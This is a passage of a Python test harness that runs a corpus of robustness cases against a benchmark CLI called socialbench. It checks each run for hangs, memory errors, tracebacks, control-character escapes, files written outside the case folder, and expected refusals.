    env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI", "ANTHROPIC", "SOCIALBENCH"))}
    env.update(
        HOME=str(home),
        XDG_CACHE_HOME=str(home / ".cache"),
        OPENBLAS_NUM_THREADS="1",
        OMP_NUM_THREADS="1",
        MKL_NUM_THREADS="1",
        COLUMNS="120",
        NO_COLOR="1",
    )
    return env


def run_case(base: Base, key: str, work: Path) -> Result:
    """Prepare and run one case in ``work/<n>``; the :class:`Result` lists its failures."""
    c = CASES[key]
    folder = work / hashlib.sha256(key.encode()).hexdigest()[:10]
    ctx = Ctx(base, folder)
    ctx.outside.mkdir(parents=True)
    home = folder / "home"
    home.mkdir()
    try:
        args = c.setup(ctx)
    except Exception:  # a broken case is a failure of the corpus, never a pass
        import traceback

        return Result(c.kind, c.name, None, "", traceback.format_exc(), 0.0, ["setup"])
    before = _tree(folder, [ctx.inside, home])
    kept = {p: (folder / p).read_bytes() for p in [*ctx.keep, *ctx.grow]}
    t0 = time.perf_counter()
    try:
        proc = subprocess.run(
            [sys.executable, "-m", "socialbench", *args],
            cwd=folder,
            env=child_env(home),
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=CASE_ALARM_S + 10,
            preexec_fn=_limits,
        )
        code: int | None = proc.returncode
        stdout = proc.stdout.decode("utf-8", "replace")
        stderr = proc.stderr.decode("utf-8", "replace")
    except subprocess.TimeoutExpired as exc:
        code, stdout, stderr = None, (exc.stdout or b"").decode("utf-8", "replace"), ""
    finally:
        for cleanup in ctx.cleanups:
            cleanup()
    result = Result(c.kind, c.name, code, stdout, stderr, time.perf_counter() - t0)
    both = stdout + stderr
    if code is None or code == -signal.SIGALRM:
        result.failures.append("hang")
    if "MemoryError" in both or code == -signal.SIGKILL:
        result.failures.append("memory")
    if "Traceback" in both:
        result.failures.append("traceback")
    if _RAW_CONTROL.search(both):
        result.failures.append("escape")
    after = _tree(folder, [ctx.inside, home])
    if after != before:
        changed = sorted(set(after.items()) ^ set(before.items()))
        result.failures.append(f"outside: {changed[0][0]}")
    for p in ctx.keep:
        if (folder / p).read_bytes() != kept[p]:
            result.failures.append(f"lost: {p}")
    for p in ctx.grow:
        if not (folder / p).read_bytes().startswith(kept[p]):
            result.failures.append(f"lost: {p}")
    if code is not None and code >= 0:
        if c.names is not None and c.names not in stderr:
            result.failures.append(f"exit: {code}, expected a message naming {c.names!r}")
        if c.refuse is not None:
            lines = [x for x in stderr.splitlines() if x.strip()]
            if code != 1 or not lines or c.refuse not in stderr:
                result.failures.append(f"exit: {code}, expected a refusal naming {c.refuse!r}")
        elif code not in ((0, 1) if c.names is not None else (0, 2)):
            result.failures.append(f"exit: {code}, expected the command to run")
        elif code in (0, 2) and c.check is not None:
            problem = c.check(ctx, result)
            if problem:
                result.failures.append(f"check: {problem}")
    return result


@contextmanager
def fixtures(root: Path) -> Iterator[Base]:
    """Build the :class:`Base` under ``root`` (a dataset, a finished run with its caches) and
    serve the scripted model replies while the context is open."""
    from socialbench.benchmarks.socialnav_sub.synthetic import write_synthetic_dataset
    from socialbench.testing.openai_server import ScriptedOpenAIServer

    with ScriptedOpenAIServer(responder=reply_responder, keep_requests=False) as server:
        base = Base(root, server.base_url)
        write_synthetic_dataset(base.data, n_samples=2, people=[1, 2], seed=3, frame_size=(64, 36))
        args = [
            "eval", "-b", "socialnav-sub", "-m", "mock:first-option", "-d", str(base.data), "-o", str(base.run),
            "--no-progress", "--limit", "1", "--cache", str(base.cache), "--render-cache", str(base.renders),
        ]  # fmt: skip
        random_args = [
            "eval", "-b", "socialnav-sub", "-m", "baseline:random", "-d", str(base.data), "-o", str(base.random_run),
            "--no-progress", "--limit", "1", "--no-cache", "--no-render-cache",
        ]  # fmt: skip
        procs = [
            subprocess.Popen(
                [sys.executable, "-m", "socialbench", *a],
                env=child_env(root / "home"),
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
            for a in (args, random_args)
        ]
        for proc in procs:
            _, err = proc.communicate()
            assert proc.returncode == 0, err[-2000:]
        # a dataset snapshot where eval looks for it (eval writes one only when no file it
        # signs changed in the last seconds, which a tree being edited cannot promise)
        from socialbench.benchmarks.base import get_benchmark
        from socialbench.runner.load_snapshot import loaded_dataset

        bench, _ = get_benchmark("socialnav-sub")
        # as eval's defaults set it (check_options): the images sent and no --perturb
        bench.image_mode, bench.variant, bench.variant_seed = "img-with-bev", None, 0
        with loaded_dataset(bench, base.data, require_images=True, limit=1, cache=base.renders, racy_ns=0):
            pass
        assert list(base.renders.glob("??/*.img")) and list(base.renders.glob("datasets/*.snapshot"))
        yield base


def run_corpus(base: Base, work: Path, keys: Sequence[str] | None = None) -> list[Result]:
    """Run ``keys`` (default: every case), :data:`WORKERS` at a time."""
    keys = list(CASES) if keys is None else list(keys)
    with ThreadPoolExecutor(WORKERS) as pool:
        return list(pool.map(lambda k: run_case(base, k, work), keys))


def counts(results: Sequence[Result]) -> dict[str, tuple[int, int]]:
    """kind -> (passing, total)."""
    out: dict[str, tuple[int, int]] = {}
    for r in results:
        passing, total = out.get(r.kind, (0, 0))
        out[r.kind] = (passing + (not r.failures), total + 1)
    return out


def summary(results: Sequence[Result]) -> str:
    lines = [f"FAIL {r.kind}: {r.name}: {'; '.join(r.failures)}" for r in results if r.failures]
    table = counts(results)
    lines += [f"{kind:18} {p}/{t} passing" for kind, (p, t) in table.items()]
    failing = sum(t - p for p, t in table.values())
    lines.append(f"{'all':18} {len(results) - failing}/{len(results)} passing")
    slow = sorted(results, key=lambda r: -r.seconds)[:5]
    lines.append("slowest: " + ", ".join(f"{r.name} {r.seconds:.1f} s" for r in slow))
    return "\n".join(lines)


def main(argv: Sequence[str]) -> int:
    kinds = set(argv) or set(KINDS)
    keys = [k for k, c in CASES.items() if c.kind in kinds]
    t0 = time.perf_counter()
    with tempfile.TemporaryDirectory(prefix="hostile-") as tmp, fixtures(Path(tmp) / "base") as base:
        results = run_corpus(base, Path(tmp) / "cases", keys)
    print(summary(results))
    print(f"{len(results)} cases in {time.perf_counter() - t0:.1f} s")
    return 0 if all(not r.failures for r in results) else 1


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "src"))
    threading.excepthook = lambda args: None
    sys.exit(main(sys.argv[1:]))
